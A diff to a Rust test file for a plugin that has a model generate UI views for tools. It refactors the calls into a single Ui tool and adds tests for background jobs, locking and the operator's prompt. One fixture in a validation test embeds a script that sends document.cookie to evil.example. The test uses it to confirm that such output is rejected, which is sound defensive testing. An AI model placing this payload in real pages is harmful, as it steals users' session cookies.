@@ -1,12 +1,7 @@
 //! Tests from a tool call or a job through a provider to a page.
 
-use super::{address, house, page_at, refusal, told, weather};
-use crate::{
-    generate::Chores,
-    page,
-    spec::tests::everything,
-    tools::{Inspect, Refine, Regenerate},
-};
+use super::{acting, address, house, page_at, refusal, told, weather};
+use crate::{generate::Chores, page, spec::tests::everything, tools::Ui};
 use portcullis_plugin::{
     catalog::Entry,
     http::Reason,
@@ -78,7 +73,7 @@ fn a_look_at_a_view_leads_to_a_better_one() {
     assert_eq!(page::tests::data(&page_at(&house, &before))["view"], everything());
     assert_eq!(house.updated(), [before, now]);
     assert_eq!(house.changed(), [ListKind::Tools, ListKind::Resources]);
-    let inspected = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+    let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
     assert_eq!(
         (&inspected["madeBy"], &inspected["llmModel"], &inspected["tokens"]),
         (&json!("provider"), &json!("fine-1"), &json!({ "input": 10, "output": 5 }))
@@ -98,17 +93,17 @@ fn where_nothing_is_kept_it_is_there_for_as_long_as_the_cache() {
     let house = with_model(&[&specification()]).setting("cache", "false");
     let plain = address(&house, "get_forecast");
     house
-        .call::<Refine>(json!({ "toolName": "get_forecast", "feedback": "larger" }))
+        .call::<Ui>(acting("refine", json!({ "toolName": "get_forecast", "feedback": "larger" })))
         .expect("it works");
     let now = address(&house, "get_forecast");
     assert_ne!(now, plain);
     assert_eq!(page::tests::data(&page_at(&house, &now))["view"], everything());
-    let inspected = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+    let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
     assert_eq!(inspected["refinementHistory"], json!(["larger"]));
     // The store has no trace of the view.
     let house = house.setting("cache", "true");
     assert_eq!(address(&house, "get_forecast"), plain);
-    let inspected = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+    let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
     assert_eq!(inspected["refinementHistory"], json!([]));
 }
 
@@ -128,9 +123,10 @@ fn nothing_is_asked_for_unless_it_should_be() {
 fn a_wish_is_generated_and_told() {
     let house = with_model(&[&specification()]);
     let said = house
-        .call::<Refine>(
+        .call::<Ui>(acting(
+            "refine",
             json!({ "toolName": "get_forecast", "feedback": "lead with the warmest day" }),
-        )
+        ))
         .expect("it works")
         .as_text();
     assert!(said.starts_with("UI refined for tool 'get_forecast'. Generation took "), "{said}");
@@ -161,7 +157,7 @@ fn what_was_generated_before_is_not_paid_for_twice() {
     house.run_job::<Chores>(JOB).expect("it works");
     assert_eq!(house.sent().len(), 1, "it was in the cache");
     let said = house
-        .call::<Regenerate>(json!({ "toolName": "get_forecast" }))
+        .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
         .expect("it works")
         .as_text();
     assert!(said.starts_with("UI regenerated for tool 'get_forecast'. Generation took"), "{said}");
@@ -202,7 +198,7 @@ fn a_faulty_answer_is_put_right_once() {
             (before.clone(), 2),
             "{faulty}"
         );
-        let inspected = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+        let inspected = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
         assert!(
             inspected["fallbackReason"].as_str().expect("it is told").starts_with("INVALID"),
             "{inspected}"
@@ -241,10 +237,10 @@ fn failures_are_told_and_leave_the_plain_form() {
     for (status, body, code) in table {
         let house = with_server(move |_| Ok(Page::new(status, body.to_string())));
         let said =
-            refusal::<Refine>(&house, json!({ "toolName": "get_forecast", "feedback": "larger" }));
+            refusal(&house, "refine", json!({ "toolName": "get_forecast", "feedback": "larger" }));
         assert!(said.contains(code) && said.ends_with("Its plain form is shown."), "{said}");
         assert!(
-            told::<Inspect>(&house, json!({ "toolName": "get_forecast" }))["fallbackReason"]
+            told(&house, "inspect", json!({ "toolName": "get_forecast" }))["fallbackReason"]
                 .as_str()
                 .expect("it is told")
                 .contains(code)
@@ -257,7 +253,7 @@ fn what_takes_too_long_goes_on_in_the_background() {
     let house = with_server(|_| Ok(Page::new(429, "{}").header("retry-after", "3600")))
         .setting("max-retries", "5");
     let said = house
-        .call::<Refine>(json!({ "toolName": "get_forecast", "feedback": "larger" }))
+        .call::<Ui>(acting("refine", json!({ "toolName": "get_forecast", "feedback": "larger" })))
         .expect("it is for later")
         .as_text();
     assert!(said.contains("in the background (RATE_LIMIT"), "{said}");
@@ -267,24 +263,48 @@ fn what_takes_too_long_goes_on_in_the_background() {
         "an hour is longer than the budget"
     );
     // Another generation holds the slot, and no call waits for it.
-    let house = with_model(&[&specification()]);
-    for number in 0..=u8::MAX {
-        cache::set(&format!("busy/{number}"), [1], None);
-    }
+    let house = with_model(&[&specification()]).setting("foreground-ms", "300");
+    let house = ["slot/0", "slot/1", "slot/2"].into_iter().fold(house, Rehearsal::claimed);
     let said = house
-        .call::<Regenerate>(json!({ "toolName": "get_forecast" }))
+        .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
         .expect("it is for later")
         .as_text();
     assert!(said.contains("other views are being generated"), "{said}");
     assert_eq!(house.jobs(), [br#"{"tool":"get_forecast","anew":true}"#.as_slice()]);
     assert!(house.sent().is_empty());
+    // A job is put off again.
+    let house = house.setting("background-ms", "300");
+    house.run_job::<Chores>(JOB).expect("it is for later");
+    assert_eq!(house.jobs().last().map(Vec::as_slice), Some(JOB));
+    // The same tool is generated once at a time.
+    let digest = crate::canonical::digest_of(b"get_forecast");
+    let house = with_model(&[&specification()])
+        .setting("foreground-ms", "300")
+        .claimed(&format!("turn/{digest}"));
+    let said = house
+        .call::<Ui>(acting("regenerate", json!({ "toolName": "get_forecast" })))
+        .expect("it is for later")
+        .as_text();
+    assert!(said.contains("other views are being generated"), "{said}");
+    assert!(house.sent().is_empty());
+}
+
+#[test]
+fn the_operators_prompt_is_part_of_every_question() {
+    let house = with_model(&[&specification()]);
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert!(!asked(&house).contains("The operator asks"));
+    let house = house.setting("prompt", "Write in Dutch.");
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert_eq!(house.sent().len(), 2, "another prompt, another view");
+    assert!(asked(&house).contains("all tools:\nWrite in Dutch.\n"), "{}", asked(&house));
 }
 
 #[test]
 fn a_host_that_is_not_granted_is_named() {
     let house = house().setting("provider", "anthropic").setting("model", "m");
     let said =
-        refusal::<Refine>(&house, json!({ "toolName": "get_forecast", "feedback": "larger" }));
+        refusal(&house, "refine", json!({ "toolName": "get_forecast", "feedback": "larger" }));
     assert!(
         said.contains("https://api.anthropic.com/v1/messages") && said.contains("grants.http"),
         "{said}"
@@ -349,7 +369,7 @@ fn documents_are_judged_and_fall_back() {
     let bad = "<p>x</p><script>portcullis.listen(() => { fetch('https://evil.example/' + document.cookie) })</script>";
     let house = with_model(&[bad]).setting("documents", "true");
     house.run_job::<Chores>(JOB).expect_err("it reaches out");
-    let reason = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+    let reason = told(&house, "inspect", json!({ "toolName": "get_forecast" }));
     assert!(reason["fallbackReason"].as_str().expect("it is told").contains("fetch"), "{reason}");
     assert!(
         page::tests::data(&page_at(&house, &address(&house, "get_forecast")))["document"].is_null()
